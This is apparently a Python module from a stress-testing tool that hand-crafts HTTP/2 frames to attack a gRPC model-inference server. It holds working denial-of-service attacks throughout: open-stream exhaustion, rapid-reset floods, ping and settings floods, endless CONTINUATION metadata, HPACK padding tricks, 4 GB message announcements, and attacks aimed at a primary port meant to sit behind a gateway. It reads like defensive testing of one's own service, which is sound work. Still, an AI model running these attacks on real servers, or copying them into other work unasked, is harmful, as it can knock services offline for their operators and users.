"""Attacks on the gRPC port by HTTP/2 frames written by hand: streams, resets, pings, continuations, silence."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Awaitable, Callable

from churnattack.heads import PREFACE
from churnattack.target import Attack, Run, Tally, Target, paced, together
from churnattack.wire import Wire, wired

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_HEADERS, PADDED = 4, 8
STREAMS = 100
METHOD = "/inference.GRPCInferenceService/ModelInfer"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """RFC 9113, section 4.1."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def field(name: str, value: str) -> bytes:
    """A header field as HPACK's literal without indexing (RFC 7541, section 6.2.2)."""
    return b"\x00" + text(name) + text(value)


def text(value: str) -> bytes:
    """A string with its length as a 7-bit prefix integer."""
    content = value.encode()
    length = len(content)
    if length < 127:
        return bytes([length]) + content
    head, rest = bytearray([127]), length - 127
    while rest >= 128:
        head.append(rest % 128 + 128)
        rest //= 128
    head.append(rest)
    return bytes(head) + content


def call(target: Target, *, key: bool = True) -> bytes:
    """The fields that begin a gRPC call."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", METHOD), (":authority", "a"), ("te", "trailers")]
    fields += [("content-type", "application/grpc"), *([("x-api-key", target.key)] if key else [])]
    return b"".join(field(name, value) for name, value in fields)


def on_connections(
    count: int,
    rate: float,
    attack: Callable[[Wire, Target, AsyncIterator[int]], Awaitable[None]],
    door: Callable[[Target], int] = lambda target: target.grpc,
) -> Run:
    """So many connections, begun as HTTP/2 wants it and opened again whenever the server ends one."""

    async def run(target: Target, tally: Tally) -> None:
        async def one(number: int) -> None:
            await asyncio.sleep(number / count)
            async for _ in paced(target, 5.0):
                async with wired(door(target), tally) as wire:
                    if wire is not None:
                        tally.sent += 1
                        await wire.send(PREFACE + frame(SETTINGS, 0, 0))
                        await beside_reading(wire, target, attack(wire, target, paced(target, rate)))

        await together(count, one)

    return run


async def beside_reading(wire: Wire, target: Target, attacking: Awaitable[None]) -> None:
    """Attack, and drop what the server says until it ends the connection."""
    sending = asyncio.ensure_future(attacking)
    try:
        while target.left > 0:
            async with asyncio.timeout(max(0.1, target.left)):
                content = await wire.reader.read(65_536)
            wire.tally.bytes_received += len(content)
            if not content:
                wire.tally.answers["closed"] += 1
                return
    finally:
        sending.cancel()
        await asyncio.gather(sending, return_exceptions=True)


async def open_streams(wire: Wire, target: Target, turns: AsyncIterator[int]) -> None:
    """Calls that begin and never send their message."""
    stream = 1
    async for _ in turns:
        await wire.send(frame(HEADERS, END_HEADERS, stream, call(target)))
        stream += 2


async def reset_streams(wire: Wire, target: Target, turns: AsyncIterator[int]) -> None:
    """Calls that are taken back at once."""
    stream = 1
    async for _ in turns:
        burst = b""
        for _each in range(10):
            burst += frame(HEADERS, END_HEADERS, stream, call(target)) + frame(
                RST_STREAM, 0, stream, bytes([0, 0, 0, 8])
            )
            stream += 2
        await wire.send(burst)


async def pings(wire: Wire, _: Target, turns: AsyncIterator[int]) -> None:
    """Pings and settings that all want an answer."""
    async for _turn in turns:
        await wire.send((frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0)) * 10)


async def crumbs(wire: Wire, _: Target, turns: AsyncIterator[int]) -> None:
    """Frames that carry nothing and want no answer."""
    async for _turn in turns:
        await wire.send((frame(PRIORITY, 0, 1, bytes(5)) + frame(WINDOW_UPDATE, 0, 1, bytes([0, 0, 0, 1]))) * 600)


async def padded(wire: Wire, target: Target, turns: AsyncIterator[int]) -> None:
    """Blocks whose padding is fields to a reader that knows no padding."""
    stream = 1
    remembered = b"\x40" + text("x") + text("y")
    await wire.send(frame(HEADERS, END_HEADERS, stream, call(target, key=False) + remembered))
    async for _ in turns:
        stream += 2
        await wire.send(frame(HEADERS, END_HEADERS | PADDED, stream, b"\xff" + b"\xbe" * 16_000))


async def continuations(wire: Wire, target: Target, turns: AsyncIterator[int]) -> None:
    """Metadata without end."""
    await wire.send(frame(HEADERS, 0, 1, call(target, key=False)))
    async for number in turns:
        await wire.send(frame(CONTINUATION, 0, 1, field(f"x-filler-{number}", "v" * 16_000)))


async def short_fields(wire: Wire, target: Target, turns: AsyncIterator[int]) -> None:
    """The same in crumbs: a library holds a hundred bytes of each field, however short it is."""
    await wire.send(frame(HEADERS, 0, 1, call(target, key=False)))
    async for _ in turns:
        await wire.send(frame(CONTINUATION, 0, 1, field("x", "") * 400))


async def repeated_fields(wire: Wire, target: Target, turns: AsyncIterator[int]) -> None:
    """The same by one byte a field, which stands for one that was sent before (RFC 7541, section 6.1)."""
    remembered = b"\x40" + text("x") + text("y")
    await wire.send(frame(HEADERS, 0, 1, call(target, key=False) + remembered))
    async for _ in turns:
        await wire.send(frame(CONTINUATION, 0, 1, b"\xbe" * 450))


async def large_metadata(wire: Wire, target: Target, turns: AsyncIterator[int]) -> None:
    """Calls whose metadata fit one frame, just."""
    stream = 1
    async for _ in turns:
        fields = call(target, key=False) + field("x-filler", "v" * 15_000)
        await wire.send(frame(HEADERS, END_HEADERS | 1, stream, fields))
        stream += 2


async def long_message(wire: Wire, target: Target, turns: AsyncIterator[int]) -> None:
    """A message that announces four gigabytes and comes by and by."""
    await wire.send(frame(HEADERS, END_HEADERS, 1, call(target)) + frame(DATA, 0, 1, b"\x00\xff\xff\xff\xff"))
    async for _ in turns:
        await wire.send(frame(DATA, 0, 1, bytes(16_000)))


def primary(target: Target) -> int:
    """The port of the model server itself, which only the gateway should reach."""
    return target.primary_grpc


async def nothing(_: Wire, target: Target, _turns: AsyncIterator[int]) -> None:
    """Nothing."""
    await asyncio.sleep(max(0.0, target.left))


HTTP2_ATTACKS = (
    Attack(
        "grpc-silent", "gRPC, no key", f"{STREAMS} connections without a call", on_connections(STREAMS, 1.0, nothing)
    ),
    Attack(
        "grpc-streams",
        "gRPC",
        "calls that begin and send no message, 100 a second",
        on_connections(4, 25.0, open_streams),
    ),
    Attack("grpc-resets", "gRPC", "calls taken back at once, 500 a second", on_connections(2, 25.0, reset_streams)),
    Attack("grpc-pings", "gRPC, no key", "pings and settings, 4,000 a second", on_connections(2, 100.0, pings)),
    Attack(
        "grpc-crumbs",
        "gRPC, no key",
        "frames of nothing, 20 connections of 1 MB/s",
        on_connections(20, 64.0, crumbs),
    ),
    Attack(
        "grpc-padded",
        "gRPC, no key",
        "padding like fields, 4 connections of 1 MB/s",
        on_connections(4, 64.0, padded),
    ),
    Attack(
        "grpc-continuations",
        "gRPC, no key",
        "metadata without end, 2 connections of 1 MB/s",
        on_connections(2, 64.0, continuations),
    ),
    Attack(
        "grpc-short-fields",
        "gRPC, no key",
        "metadata without end, 20 connections of 25,000 empty fields a second",
        on_connections(20, 64.0, short_fields),
    ),
    Attack(
        "grpc-repeated-fields",
        "gRPC, no key",
        "metadata without end, 20 connections of 29,000 repeated fields a second",
        on_connections(20, 64.0, repeated_fields),
    ),
    Attack(
        "grpc-continuations-primary",
        "primary's gRPC",
        "metadata without end, 2 connections of 1 MB/s",
        on_connections(2, 64.0, continuations, primary),
    ),
    Attack(
        "grpc-repeated-fields-primary",
        "primary's gRPC",
        "metadata without end, 20 connections of 29,000 repeated fields a second",
        on_connections(20, 64.0, repeated_fields, primary),
    ),
    Attack(
        "grpc-metadata",
        "gRPC, no key",
        "calls with 15 kB of metadata, 100 a second",
        on_connections(2, 50.0, large_metadata),
    ),
    Attack(
        "grpc-long-message",
        "gRPC",
        "messages that announce 4 GB, 4 connections of 1 MB/s",
        on_connections(4, 64.0, long_message),
    ),
)
